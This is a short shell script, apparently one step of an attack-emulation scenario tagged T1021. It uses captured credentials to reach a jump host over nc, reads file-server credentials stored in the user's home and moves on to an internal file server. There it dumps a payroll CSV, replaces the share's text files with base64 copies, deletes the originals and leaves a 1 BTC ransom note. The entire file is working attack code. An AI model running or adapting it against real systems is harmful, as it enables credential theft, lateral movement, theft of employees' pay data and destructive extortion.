# T1021: from jump, with the file server credentials stored in the account's home, sign in to
# the file server (reached only from inside), take the payroll and lock the share for ransom.
# Succeeds when the payroll comes out.
[ -r /root/loot/jump ] || { echo "no password for jump yet"; exit 1; }
read -r user pass < /root/loot/jump
# The command run on jump (one line): read the stored credentials and hop to the file server.
hop=$(cat <<'HOP'
f=$HOME/.fileserver; [ -r "$f" ] || { echo no-credentials; exit 0; }; fu=$(sed -n 's/^user //p' "$f"); fp=$(sed -n 's/^password //p' "$f"); printf '%s\n%s\n%s\n' "$fu" "$fp" 'cat /srv/share/payroll.csv; for x in /srv/share/*.txt; do base64 "$x" > "$x.locked" && rm -f "$x"; done; echo PAY 1 BTC > /srv/share/README-LOCKED.txt' | nc -w 5 files 2222
HOP
)
out=$(printf '%s\n%s\n%s\n' "$user" "$pass" "$hop" | nc -w 8 jump 2222 2>&1)
if printf '%s\n' "$out" | grep -q 'nip,nama,gaji'; then
  echo "payroll taken from files through jump ($(printf '%s\n' "$out" | grep -c '^19') rows), share locked"
  exit 0
fi
echo "no payroll came out: $(printf '%s' "$out" | tail -n 1)"
exit 1
